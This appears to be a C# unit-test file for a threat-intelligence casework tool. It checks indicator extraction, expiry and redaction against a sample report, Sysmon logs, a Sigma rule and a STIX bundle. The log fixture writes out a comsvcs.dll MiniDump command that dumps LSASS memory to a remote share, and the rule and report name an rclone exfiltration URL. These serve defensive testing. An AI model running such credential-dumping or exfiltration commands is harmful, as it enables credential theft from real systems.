using Modus.Attack;
using Modus.Casework.Cases;
using Modus.Casework.Exchange;
using Modus.Casework.Indicators;
using Modus.Casework.Ingest;
using Modus.Casework.Investigation;
using Modus.Casework.Store;
using Modus.Casework.Workspaces;
using Xunit;

namespace Modus.Tests.Casework.Indicators;

/// <summary>Indicators that a case keeps: which, until when, and what they belonged to.</summary>
public sealed class CaseIndicatorTests : IDisposable
{
    private const string Hash = "a3f5d8b1c2e4f60718293a4b5c6d7e8f90123456789abcdef0123456789abcde";

    private const string Report = """
        <html><body><p>Published 2026-03-20. See www.vendor-news.com for more.</p>
        <p>On 2026-03-11 04:05 the operators sent files by rclone (T1567.002) to drop.tidewrack[.]top and hxxps://drop.tidewrack[.]top/put.
        The host 10.1.2.3 was left alone.</p>
        <p>They dumped LSASS memory (T1003.001).</p>
        <table><tr><td>SHA-256</td><td>A3F5D8B1C2E4F60718293A4B5C6D7E8F90123456789ABCDEF0123456789ABCDE</td></tr></table></body></html>
        """;

    private const string Log = """
        {"@timestamp":"2026-03-10T02:31:09Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","computer_name":"SRV-1.corp.example","record_id":7,"event_data":{"Image":"C:\\Windows\\System32\\rundll32.exe","Hashes":"MD5=11111111111111111111111111111111,IMPHASH=22222222222222222222222222222222","CommandLine":"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 \\\\93.184.216.34\\x\\l.dmp full Version=2.0.0.0","User":"CORP\\svc"}}}
        {"@timestamp":"2026-03-10T02:41:09Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","computer_name":"SRV-1.corp.example","record_id":8,"event_data":{"Image":"C:\\Users\\a\\rd.exe","OriginalFileName":"RUNDLL32.EXE","Hashes":"MD5=33333333333333333333333333333333,IMPHASH=44444444444444444444444444444444","CommandLine":"rd.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 \\\\93.184.216.34\\x\\l.dmp full","User":"CORP\\svc"}}}

        """;

    private const string Rule = """
        title: Files by rclone to a known place
        id: 6d2ff5d7-4c1b-4b9f-8f43-2b9a1f0c7a11
        status: test
        date: 2026-01-01
        modified: 2026-02-01
        tags: [attack.exfiltration, attack.t1567.002]
        logsource: {product: windows, category: process_creation}
        detection:
          selection:
            - Hashes|contains: 'IMPHASH=55555555555555555555555555555555'
            - CommandLine|contains: 'https://drop.tidewrack.top/put'
          filter: {CommandLine|contains: 'https://good.example.com/x'}
          condition: selection and not filter
        level: high
        """;

    private static readonly KnowledgeBase facts = KnowledgeBase.Open(Path.Combine(Path.GetTempPath(), "modus-test-no-cache"));
    private readonly TemporaryFolder folder = new();
    private readonly Workspace workspace;
    private readonly CaseBook book;

    public CaseIndicatorTests()
    {
        workspace = new Workspace { Folder = folder.Path, Name = "w" };
        workspace.Create();
        book = new CaseBook(workspace.OpenStore(TimeProvider.System), "mira", TimeProvider.System);
        book.SaveOrThrow("case", new CaseRecord { Id = "C-w", Name = "W" });
    }

    public void Dispose()
    {
        book.Dispose();
        folder.Dispose();
    }

    [Fact]
    public void A_report_gives_what_it_defangs_and_links_it_to_the_procedure_of_its_sentence()
    {
        Ingest("amber", folder.Write("r.html", Report));

        var all = List();
        Assert.Equal(["domain drop.tidewrack.top", "sha256 " + Hash, "url https://drop.tidewrack.top/put"], all.Select(Name).Order(StringComparer.Ordinal));
        var domain = Assert.Single(all, one => one.Type == IndicatorType.Domain);
        var sent = Assert.Single(book.List<ProcedureRecord>("C-w"), one => one.Technique == "T1567.002");
        Assert.Equal([sent.Id], domain.Procedures);
        Assert.Equal("amber", domain.Tlp);
        var sighting = Assert.Single(domain.Sightings);
        Assert.Equal(("drop.tidewrack[.]top", "sentence"), (sighting.Written, sighting.Basis));
        // The sentence says when; where none does, the newest date of the document.
        Assert.Equal(new DateTimeOffset(2026, 3, 11, 4, 5, 0, TimeSpan.Zero).AddDays(90), domain.Expires);
        var hash = Assert.Single(all, one => one.Type == IndicatorType.Sha256);
        Assert.Equal(new DateTimeOffset(2026, 3, 20, 0, 0, 0, TimeSpan.Zero), hash.Last);
        Assert.Empty(hash.Procedures);
        Assert.Equal("drop[.]tidewrack[.]top hxxps://drop[.]tidewrack[.]top/put", string.Join(' ', all.Where(one => one.Type != IndicatorType.Sha256).OrderBy(one => one.Type).Select(one => IndicatorTypes.Defang(one.Type, one.Value))));
    }

    [Fact]
    public void Events_give_what_is_not_the_systems_or_the_victims_and_link_it_to_what_the_rule_saw()
    {
        Ingest(null, folder.Write("l.jsonl", Log));

        var all = List();
        Assert.Equal(["imphash 44444444444444444444444444444444", "ipv4 93.184.216.34", "md5 33333333333333333333333333333333"], all.Select(Name).Order(StringComparer.Ordinal));
        var address = Assert.Single(all, one => one.Type == IndicatorType.Ipv4);
        var dump = Assert.Single(book.List<ProcedureRecord>("C-w"), one => one.Technique == "T1003.001");
        Assert.Contains(dump.Id, address.Procedures);
        Assert.Equal((new DateTimeOffset(2026, 3, 10, 2, 31, 9, TimeSpan.Zero), new DateTimeOffset(2026, 3, 10, 2, 41, 9, TimeSpan.Zero)), (address.First!.Value, address.Last!.Value));
        Assert.Equal(address.Last.Value.AddDays(30), address.Expires);
        Assert.False(address.IsExpired(address.Expires!.Value.AddSeconds(-1)));
        Assert.True(address.IsExpired(address.Expires.Value));
    }

    [Fact]
    public void A_rule_gives_what_it_looks_for_and_joins_what_a_report_said()
    {
        Ingest(null, folder.Write("r.html", Report));
        Ingest(null, folder.Write("rule.yml", Rule));

        var all = List();
        Assert.DoesNotContain(all, one => one.Value.Contains("good.example", StringComparison.Ordinal));
        var url = Assert.Single(all, one => one.Type == IndicatorType.Url);
        Assert.Equal(2, url.Sightings.Count);
        Assert.Equal(["T1567.002"], url.Techniques);
        var hash = Assert.Single(all, one => one.Type == IndicatorType.Imphash);
        Assert.Equal(new DateTimeOffset(2026, 2, 1, 0, 0, 0, TimeSpan.Zero).AddDays(365), hash.Expires);
    }

    [Fact]
    public void A_bundle_gives_its_patterns_with_the_end_that_its_producer_sets()
    {
        const string bundle = """
            {"type":"bundle","id":"bundle--5d0092c5-5f74-4287-9642-33f4c354e56d","objects":[
            {"type":"indicator","spec_version":"2.1","id":"indicator--26ffb872-1dd9-446e-b6f5-d58527e5b5d2","created":"2026-01-01T00:00:00Z","modified":"2026-01-01T00:00:00Z","name":"Drop","pattern":"[ipv4-addr:value = '93.184.216.34' OR file:hashes.'SHA-256' = 'A3F5D8B1C2E4F60718293A4B5C6D7E8F90123456789ABCDEF0123456789ABCDE' AND ipv4-addr:value = '10.0.0.1']","pattern_type":"stix","valid_from":"2026-01-02T00:00:00Z","valid_until":"2026-01-09T00:00:00Z"},
            {"type":"attack-pattern","spec_version":"2.1","id":"attack-pattern--0c7b5b88-8ff7-4a4d-aa9d-feb398cd0061","created":"2026-01-01T00:00:00Z","modified":"2026-01-01T00:00:00Z","name":"Exfiltration to Cloud Storage","external_references":[{"source_name":"mitre-attack","external_id":"T1567.002"}]},
            {"type":"relationship","spec_version":"2.1","id":"relationship--44298a74-ba52-4f0c-87a3-1824e67d7fad","created":"2026-01-01T00:00:00Z","modified":"2026-01-01T00:00:00Z","relationship_type":"indicates","source_ref":"indicator--26ffb872-1dd9-446e-b6f5-d58527e5b5d2","target_ref":"attack-pattern--0c7b5b88-8ff7-4a4d-aa9d-feb398cd0061"}]}
            """;
        Ingest(null, folder.Write("b.json", bundle));

        var all = List();
        Assert.Equal(["ipv4 93.184.216.34", "sha256 " + Hash], all.Select(Name).Order(StringComparer.Ordinal));
        Assert.All(all, one => Assert.Equal(new DateTimeOffset(2026, 1, 9, 0, 0, 0, TimeSpan.Zero), one.Expires));
        var procedure = Assert.Single(book.List<ProcedureRecord>("C-w"));
        Assert.All(all, one => Assert.Equal([procedure.Id], one.Procedures));
    }

    [Fact]
    public void The_workspace_says_how_long_a_type_is_trusted()
    {
        File.AppendAllText(workspace.PathOf(Workspace.FileName), "indicator_days:\n  domain: 7\n");
        var own = Workspace.Load(folder.Path);
        Assert.Equal((7, 30), (own.DaysOf(IndicatorType.Domain), own.DaysOf(IndicatorType.Ipv4)));
        IngestIn(own, folder.Write("r.html", Report));

        Assert.Equal(new DateTimeOffset(2026, 3, 18, 4, 5, 0, TimeSpan.Zero), Assert.Single(List(), one => one.Type == IndicatorType.Domain).Expires);

        File.AppendAllText(workspace.PathOf(Workspace.FileName), "  teapot: 7\n");
        Assert.Contains("knows no 'teapot'", Assert.Throws<CaseRuleException>(() => Workspace.Load(folder.Path)).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Indicators_go_out_and_in_without_loss_and_one_undo_takes_them_back()
    {
        Ingest("green", folder.Write("r.html", Report), folder.Write("l.jsonl", Log));
        var before = List();
        var place = Path.Combine(folder.Path, "out");
        CaseExport.Write(book, book.Case("C-w"), place);
        using var other = new CaseBook(CaseStores.OpenSqlite(Path.Combine(folder.Path, "other.db"), TimeProvider.System), "noor", TimeProvider.System);

        CaseImport.Read(other, place);

        Assert.Equal(before.Select(Text), other.List<IndicatorRecord>("C-w").Select(Text));
        other.Store.Undo("noor", 1);
        Assert.Empty(other.List<IndicatorRecord>());
        Assert.Null(other.Store.Verify().Reason);
    }

    [Fact]
    public void The_same_evidence_again_changes_nothing_and_redaction_takes_the_words()
    {
        var file = folder.Write("r.html", Report);
        Ingest(null, file, folder.Write("rule.yml", Rule));
        var before = book.Store.Journal().Count;
        IngestWith(new IngestOptions { Workspace = workspace, Again = true }, file);
        Assert.Equal(before, book.Store.Journal().Count);

        Redaction.Of(book, Assert.Single(book.List<EvidenceRecord>("C-w"), one => one.Type == EvidenceKind.Report), "asked by the source");

        var all = List();
        Assert.Equal(Redaction.Mark, Assert.Single(all, one => one.Type == IndicatorType.Domain).Value);
        // The rule says the address still.
        Assert.Equal("https://drop.tidewrack.top/put", Assert.Single(all, one => one.Type == IndicatorType.Url).Value);
        Assert.DoesNotContain(all.SelectMany(one => one.Sightings), one => one.Context.Contains("operators", StringComparison.Ordinal));
    }

    private IReadOnlyList<IndicatorRecord> List() => book.List<IndicatorRecord>("C-w");

    private static string Name(IndicatorRecord one) => $"{one.Type.ToString().ToLowerInvariant()} {one.Value}";

    private static string Text(IndicatorRecord one) => one.Id + RecordJson.BodyOf(one).GetRawText();

    private void Ingest(string? tlp, params string[] files) => IngestWith(new IngestOptions { Workspace = workspace, Tlp = tlp }, files);

    private void IngestIn(Workspace own, params string[] files) => IngestWith(new IngestOptions { Workspace = own }, files);

    private void IngestWith(IngestOptions options, params string[] files) => Ingestor.Run(files, book, book.Case("C-w"), new KnowledgeAtHand(facts.OfEachDomain(null), () => [.. facts.Entries.Select(facts.Load).OfType<Release>()]), options with { LeastProbability = 2 });
}
